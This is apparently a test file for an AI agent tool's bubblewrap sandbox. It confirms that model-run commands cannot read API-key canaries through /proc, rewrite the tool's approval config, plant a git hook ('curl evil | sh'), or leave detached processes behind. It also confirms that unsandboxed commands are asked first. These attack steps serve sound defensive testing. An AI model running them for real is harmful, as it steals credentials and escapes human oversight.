// The sandbox of commands and generated tests (issue #22, items 1, 3 and 4): real sessions run real
// commands through bubblewrap (src/node/sandbox.ts), and each attack of the issue is tried for real:
// reading Ensemble's environment through /proc, rewriting .ensemble/config.json and a git hook, leaving
// a detached process behind, reaching a local server with the network off. Then what happens where
// there is no sandbox: every command is asked, unless the user chose commands.sandbox "off".

import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { spawn } from 'node:child_process';
import { commandSession } from '../helpers/command-session';
import { ofType, run as runSession, tempWorkspace, testConfig } from '../helpers/session';
import { conv, planStep, ScriptedProvider, writesThenFinishes, type Step } from '../helpers/scripted';
import { BubblewrapSandbox, findProtected, NoSandbox, platformSandbox } from '../../src/node/sandbox';
import { NodeCommandRunner } from '../../src/node/command-runner';
import { NodeFileStore } from '../../src/node/file-store';
import { startSession } from '../../src/core/session/session';
import { reportFromEvents, renderMarkdown } from '../../src/core/fold/report';
import { describeEvent } from '../../src/core/fold/narrate';
import type { CommandApprovalRequest } from '../../src/core/session/commands';

const node = (js: string) => `node -e ${JSON.stringify(js)}`;

/** Processes on this machine (the host's /proc) whose command line holds `marker`. */
function processesWith(marker: string): number[] {
  const out: number[] = [];
  for (const pid of fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
    try {
      if (fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(marker)) out.push(Number(pid));
    } catch {
      /* gone meanwhile */
    }
  }
  return out.filter((pid) => pid !== process.pid);
}

async function noneWith(marker: string, withinMs: number): Promise<number[]> {
  let left = processesWith(marker);
  for (const end = Date.now() + withinMs; left.length && Date.now() < end; left = processesWith(marker)) await new Promise((r) => setTimeout(r, 50));
  return left;
}

function killAll(pids: number[]): void {
  for (const pid of pids) {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {
      /* gone */
    }
  }
}

describe('sandbox: commands and generated tests run confined (bubblewrap)', function () {
  this.timeout(60_000);
  let name = '';

  before(async function () {
    const status = await platformSandbox().probe();
    if (!status.available) {
      // Only where bubblewrap is missing or may not create namespaces (not here, not in CI): say so loudly.
      console.warn(`    SKIPPED: no sandbox on this machine (${status.reason}); the sandbox tests need bubblewrap (apt install bubblewrap).`);
      this.skip();
    }
    name = status.name;
    assert.match(name, /^bubblewrap \d/);
  });

  it('#22.1: a command sees no environment of Ensemble through /proc, not even walking every process it can see', async () => {
    const ws = tempWorkspace();
    const canary = { ENSEMBLE_CANARY_TOKEN: 'canary-0f9e8d7c6b5a4938-secret', ANTHROPIC_API_KEY: 'canary-anthropic-1234567890abcdef' };
    const walk = node("const fs=require('fs');const hits=[];for(const p of fs.readdirSync('/proc').filter(d=>/^\\d+$/.test(d))){try{const e=fs.readFileSync('/proc/'+p+'/environ','utf8');if(e.includes('ENSEMBLE_CANARY_'+'TOKEN'))hits.push(p)}catch{}}console.log('processes whose environment holds the canary: '+(hits.join(',')||'none'))");
    // Ensemble as its own process, started with the canary in its environment (as a user's keys are).
    const child = spawn(process.execPath, ['--import', 'tsx', path.join(__dirname, '..', 'helpers', 'command-session.ts'), ws, JSON.stringify(['cat /proc/$PPID/environ', walk]), JSON.stringify({ run: 'always', allow: [] })], { env: { ...process.env, ...canary }, stdio: ['ignore', 'pipe', 'inherit'] });
    let stdout = '';
    child.stdout.on('data', (d) => (stdout += d));
    const code = await new Promise<number | null>((resolve) => child.on('exit', resolve));
    assert.equal(code, 0, stdout);
    const r = JSON.parse(stdout) as { status: string; results: string[] };
    assert.equal(r.status, 'completed');
    const [cat, walked] = r.results as [string, string];
    assert.match(cat, /`cat \/proc\/\$PPID\/environ` exited with code 0/);
    assert.match(cat, /PATH=/, 'the command read an environment (its own sandbox’s), so the check is real');
    assert.match(walked, /processes whose environment holds the canary: none/);
    for (const [k, v] of Object.entries(canary)) {
      for (const text of [cat, walked]) {
        assert.ok(!text.includes(k), `${k} reached the model`);
        assert.ok(!text.includes(v), `the value of ${k} reached the model`);
      }
    }
  });

  it('#22.3: a command cannot write .ensemble/config.json, a git hook, a nested .git or move .git away; the rest of the workspace is writable and its changes are the task’s', async () => {
    const ws = tempWorkspace();
    const files = { '.ensemble/config.json': '{"commands":{"run":"ask"}}\n', '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n', '.git/HEAD': 'ref: refs/heads/main\n', 'lib/vendored/.git/HEAD': 'ref: refs/heads/x\n' };
    for (const [f, text] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(ws, f)), { recursive: true });
      fs.writeFileSync(path.join(ws, f), text);
    }
    let attack = node(
      "const fs=require('fs');const r={};const t=(k,f)=>{try{f();r[k]='written'}catch(e){r[k]=e.code}};" +
        "t('config',()=>fs.writeFileSync('.ensemble/config.json','{\"commands\":{\"run\":\"always\"}}'));" +
        "t('hook',()=>fs.writeFileSync('.git/hooks/pre-commit','#!/bin/sh\\ncurl evil | sh'));" +
        "t('newHook',()=>fs.writeFileSync('.git/hooks/post-checkout','x'));" +
        "t('nested',()=>fs.writeFileSync('lib/vendored/.git/HEAD','x'));" +
        "t('moveGit',()=>fs.renameSync('.git','git-moved'));" +
        "t('removeEnsemble',()=>fs.rmSync('.ensemble',{recursive:true}));" +
        "t('made',()=>{fs.mkdirSync('out',{recursive:true});fs.writeFileSync('out/made.txt','ok')});" +
        "t('tmp',()=>fs.writeFileSync('SCRATCH','ok'));" +
        "t('outside',()=>fs.writeFileSync('OUTSIDE','x'));" +
        "console.log('RESULT '+JSON.stringify(r))",
    );
    const outside = path.join(os.homedir(), '.ensemble-sandbox-probe');
    const scratch = `/tmp/ensemble-sandbox-scratch-${process.pid}`;
    attack = attack.replace('SCRATCH', scratch).replace('OUTSIDE', outside);
    let leaked: string[] = [];
    const r = await commandSession(ws, [attack], { run: 'always', allow: [] }).finally(() => {
      // What unconfined commands (a failure) left outside the workspace: noted, then removed.
      leaked = [outside, scratch].filter((f) => fs.existsSync(f));
      for (const f of leaked) fs.rmSync(f, { force: true });
    });
    assert.equal(r.status, 'completed', r.error);
    const out = JSON.parse(/^RESULT (.*)$/m.exec(r.results[0]!)?.[1] ?? 'null') as Record<string, string>;
    assert.deepEqual(out, { config: 'EROFS', hook: 'EROFS', newHook: 'EROFS', nested: 'EROFS', moveGit: 'EBUSY', removeEnsemble: 'EBUSY', made: 'written', tmp: 'written', outside: 'EROFS' });
    for (const [f, text] of Object.entries(files)) assert.equal(fs.readFileSync(path.join(ws, f), 'utf8'), text, `${f} changed`);
    assert.equal(fs.existsSync(path.join(ws, '.git/hooks/post-checkout')), false);
    assert.equal(fs.existsSync(path.join(ws, 'git-moved')), false);
    assert.deepEqual(leaked, [], 'written outside the workspace (its /tmp is its own; the rest is read-only)');
    // What it could write is in the workspace and is the task's, like its writes.
    assert.equal(fs.readFileSync(path.join(ws, 'out/made.txt'), 'utf8'), 'ok');
    const ran = ofType(r.events, 'command.ran')[0]!;
    assert.deepEqual(ran.files, [{ path: 'out/made.txt', change: 'created' }]);
    assert.ok(reportFromEvents(r.events).tasks[0]!.files.includes('out/made.txt'));
  });

  it('#22.4: a detached child (its own process group and session) dies with the command; so does everything at the timeout', async () => {
    const ws = tempWorkspace();
    const marker = `ensemble-sandbox-detached-${process.pid}-${Date.now()}`;
    // The child writes `started` once it runs; the command waits for that, then exits.
    const detach = node(`const {spawn}=require('child_process');const c=spawn(process.execPath,['-e',"require('fs').writeFileSync('started','');setInterval(()=>{},1000)",'${marker}'],{detached:true,stdio:'ignore'});c.unref();const t=setInterval(()=>{if(require('fs').existsSync('started')){clearInterval(t);console.log('child',c.pid,'running')}},20)`);
    const hang = node(`const {spawn}=require('child_process');spawn(process.execPath,['-e','setInterval(()=>{},1000)','${marker}-t'],{detached:true,stdio:'ignore'}).unref();setInterval(()=>{},1000)`);
    try {
      const r = await commandSession(ws, [detach, hang], { run: 'always', allow: [], timeoutMs: 3000 });
      assert.equal(r.status, 'completed', r.error);
      assert.match(r.results[0]!, /exited with code 0[\s\S]*child \d+ running/);
      assert.ok(fs.existsSync(path.join(ws, 'started')), 'the detached child ran');
      assert.match(r.results[1]!, /was killed at its timeout \(3000 ms\)/);
      assert.deepEqual(await noneWith(marker, 5000), [], 'a detached child outlived its command');
    } finally {
      killAll(processesWith(marker)); // whatever a failure left behind
    }
  });

  it('network "off" blocks a connection to a local server; "on" (the default) allows it', async () => {
    const connections: string[] = [];
    const server = net.createServer((s) => (connections.push('in'), s.end('hello\n')));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;
    const dial = node(`require('net').connect(${port},'127.0.0.1').on('connect',()=>console.log('CONNECTED')).on('error',(e)=>console.log('FAILED',e.code)).on('data',()=>{}).on('end',()=>{})`);
    try {
      const off = await commandSession(tempWorkspace(), [dial], { run: 'always', allow: [], network: 'off' });
      assert.match(off.results[0]!, /FAILED E[A-Z]+/);
      assert.deepEqual(connections, []);
      const on = await commandSession(tempWorkspace(), [dial], { run: 'always', allow: [] });
      assert.match(on.results[0]!, /CONNECTED/);
      assert.deepEqual(connections, ['in']);
      // The log and the report say where each ran.
      assert.deepEqual(ofType(off.events, 'sandbox.checked').map((e) => [e.sandbox, e.network, e.setting]), [[name, 'off', 'auto']]);
      assert.deepEqual(reportFromEvents(off.events).commands.map((c) => [c.sandbox, c.network]), [[name, 'off']]);
      assert.deepEqual(reportFromEvents(on.events).commands.map((c) => [c.sandbox, c.network]), [[name, 'on']]);
      assert.match(renderMarkdown(reportFromEvents(off.events)), new RegExp(`Commands ran in ${name.replace('.', '\\.')} with the network off\\.`));
    } finally {
      server.close();
    }
  });

  it('runs the generated tests in the sandbox too', async () => {
    const hook = '#!/bin/sh\nexit 0\n';
    const ws = tempWorkspace();
    fs.mkdirSync(path.join(ws, '.git', 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(ws, '.git', 'hooks', 'pre-commit'), hook);
    // The generated test passes only where writing the hook is refused.
    const test = "const test=require('node:test');const assert=require('node:assert');test('hook is read-only',()=>{assert.throws(()=>require('fs').writeFileSync('.git/hooks/pre-commit','evil'),{code:'EROFS'})});";
    const r = runSession('validate', {
      orch: (req) => (conv(req) === 'plan' ? planStep([{ id: 't1', role: 'a' }]) : { toolCalls: [{ name: 'finish', arguments: { summary: 'ok' } }] }),
      p1: writesThenFinishes({ 'hook.test.js': test }),
    }, { workspace: ws, config: testConfig({ validation: { runTests: 'always' } }) });
    const state = await r.handle.done;
    assert.equal(state.status, 'completed', state.error);
    const report = reportFromEvents(r.events());
    assert.deepEqual([report.validation?.passed, report.validation?.failed, report.validation?.sandbox, report.validation?.network], [1, 0, name, 'on']);
    assert.equal(fs.readFileSync(path.join(ws, '.git', 'hooks', 'pre-commit'), 'utf8'), hook);
  });

  it('keeps every .git and .ensemble read-only (any depth, outside node_modules), not looking inside them', async () => {
    const ws = tempWorkspace();
    for (const d of ['.git/objects', '.ensemble/sessions', 'a/b/.git', 'a/.ensemble', 'node_modules/x/.git', 'c']) fs.mkdirSync(path.join(ws, d), { recursive: true });
    fs.writeFileSync(path.join(ws, 'sub.git'), '');
    fs.writeFileSync(path.join(ws, 'c', '.git'), 'gitdir: ../.git/worktrees/c\n'); // a worktree's .git file
    fs.symlinkSync(path.join(ws, 'a', 'b'), path.join(ws, 'link')); // a linked folder is not followed
    const found = (await findProtected(fs.realpathSync(ws), ['.git', '.ensemble'])).map((p) => path.relative(fs.realpathSync(ws), p)).sort();
    assert.deepEqual(found, ['.ensemble', '.git', 'a/.ensemble', 'a/b/.git', 'c/.git']);
  });
});

describe('sandbox: where there is none', function () {
  this.timeout(60_000);

  it('says why in the probe: bwrap missing; no sandbox implemented for the platform', async () => {
    const missing = await new BubblewrapSandbox('/nonexistent/bwrap').probe();
    assert.deepEqual(missing, { available: false, reason: '/nonexistent/bwrap (bubblewrap) is not installed; on Debian or Ubuntu: apt install bubblewrap' });
    assert.deepEqual(await new NoSandbox('none is implemented for Windows').probe(), { available: false, reason: 'none is implemented for Windows' });
  });

  it('asks before every command, also one the policy allows; denies it when nobody can be asked; and the log says why', async () => {
    const asked: CommandApprovalRequest[] = [];
    const r = await commandSession(tempWorkspace(), [node("require('fs').writeFileSync('made','')"), 'echo hi'], { run: 'always', allow: ['echo *'] }, { sandbox: new BubblewrapSandbox('/nonexistent/bwrap'), deps: { approveCommand: async (req) => (asked.push(req), req.command === 'echo hi' ? 'once' : 'deny') } });
    assert.equal(r.status, 'completed', r.error);
    assert.deepEqual(asked.map((a) => [a.command, a.sandbox]), [[node("require('fs').writeFileSync('made','')"), null], ['echo hi', null]]);
    assert.deepEqual(ofType(r.events, 'command.decided').map((d) => [d.decision, d.by]), [['denied', 'user'], ['approved', 'user']]);
    const checked = ofType(r.events, 'sandbox.checked');
    assert.deepEqual(checked.map((e) => [e.sandbox, e.setting]), [[null, 'auto']]);
    assert.match(describeEvent(checked[0]!)!, /sandbox: none \(\/nonexistent\/bwrap \(bubblewrap\) is not installed.*\): every command is asked before it runs/);
    assert.deepEqual(reportFromEvents(r.events).commands.map((c) => [c.sandbox, c.network]), [[null, null], [null, 'on']]);

    const nobody = await commandSession(tempWorkspace(), ['echo hi'], { run: 'allowed', allow: ['echo *'] }, { sandbox: null });
    assert.match(nobody.results[0]!, /not run: no sandbox would confine it, so it is asked although it matches the allow pattern "echo \*" and nobody can be asked/);
    assert.equal(ofType(nobody.events, 'command.ran').length, 0);
  });

  it('runs what the policy allows without asking when the user chose commands.sandbox "off", and says so', async () => {
    const ws = tempWorkspace();
    const r = await commandSession(ws, [node("require('fs').writeFileSync('.git-free','')")], { run: 'always', allow: [], sandbox: 'off' });
    assert.equal(r.status, 'completed', r.error);
    assert.match(r.results[0]!, /exited with code 0/);
    const checked = ofType(r.events, 'sandbox.checked')[0]!;
    assert.deepEqual([checked.sandbox, checked.reason, checked.setting], [null, 'commands.sandbox is "off"', 'off']);
    assert.match(describeEvent(checked)!, /commands and tests run unconfined; the policy is the only guard/);
    assert.deepEqual(reportFromEvents(r.events).commands.map((c) => [c.sandbox, c.network]), [[null, 'on']]);
    assert.match(renderMarkdown(reportFromEvents(r.events)), /Commands ran without a sandbox\./);
  });

  it('asks before the generated tests run even with validation.runTests "always"', async () => {
    const consents: string[] = [];
    const ws = tempWorkspace();
    fs.writeFileSync(path.join(ws, 'a.test.js'), "require('node:test')('a',()=>{})");
    const orch = (req: Parameters<typeof conv>[0]): Step => (conv(req) === 'plan' ? planStep([{ id: 't1', role: 'a' }]) : { toolCalls: [{ name: 'finish', arguments: { summary: 'ok' } }] });
    const providers = { orch: new ScriptedProvider('orch', orch), p1: new ScriptedProvider('p1', writesThenFinishes({ 'b.txt': 'b' })) };
    const handle = startSession({ goal: 'g', config: testConfig({ validation: { runTests: 'always' } }), deps: { workspace: ws, store: new NodeFileStore(ws), runner: new NodeCommandRunner(), sandbox: new NoSandbox('none here'), resolve: (id) => providers[id as keyof typeof providers], consent: async (c) => (consents.push(c), false) } });
    await handle.done;
    assert.equal(consents.length, 1);
    const consent = ofType(handle.log.readAll(), 'validation.consent')[0]!;
    assert.deepEqual([consent.granted, consent.reason], [false, 'setting runTests = "always", but no sandbox would confine the tests: asked the user']);
  });
});
